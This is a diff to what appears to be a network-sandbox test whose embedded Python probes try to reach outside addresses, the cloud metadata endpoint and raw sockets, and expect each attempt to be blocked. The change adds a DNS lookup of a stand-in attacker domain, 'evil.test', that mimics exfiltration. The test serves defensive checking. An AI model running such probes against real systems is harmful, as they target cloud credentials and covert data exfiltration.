@@ -62,7 +62,8 @@ attempt('fast open', lambda: send(socket.AF_INET, socket.SOCK_STREAM, 0, ('203.0
 attempt('mapped', lambda: socket.create_connection(('::ffff:203.0.113.10', 443), 5))
 attempt('metadata', lambda: socket.create_connection(('169.254.169.254', 80), 5))
 attempt('metadata by IPv6', lambda: socket.create_connection(('fd00:ec2::254', 80), 5))
-attempt('datagram', lambda: send(socket.AF_INET, socket.SOCK_DGRAM, 0, ('203.0.113.53', 53)))
+attempt('datagram', lambda: send(socket.AF_INET, socket.SOCK_DGRAM, 0, ('203.0.113.10', 443)))
+attempt('question', lambda: socket.getaddrinfo('4d5a9000.x.evil.test', 443))
 attempt('ping', lambda: send(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, ('203.0.113.10', 0)))
 attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 253))
 attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
@@ -75,7 +76,7 @@ P"#,
             &["203.0.113.10", "\"port\":443", "\"ENETUNREACH\"", "cgroup/connect4"],
             &["169.254.169.254", "\"ENETUNREACH\"", "network.deny["],
             &["fd00:ec2::254", "\"ENETUNREACH\"", "network.deny["],
-            &["203.0.113.53", "\"port\":53", "\"ENETUNREACH\"", "cgroup/sendmsg4"],
+            &["203.0.113.10", "\"port\":443", "\"ENETUNREACH\"", "cgroup/sendmsg4"],
             &["\"EAFNOSUPPORT\"", "lsm/socket_create"],
             &["\"EPROTONOSUPPORT\"", "cgroup/sock_create"],
         ],
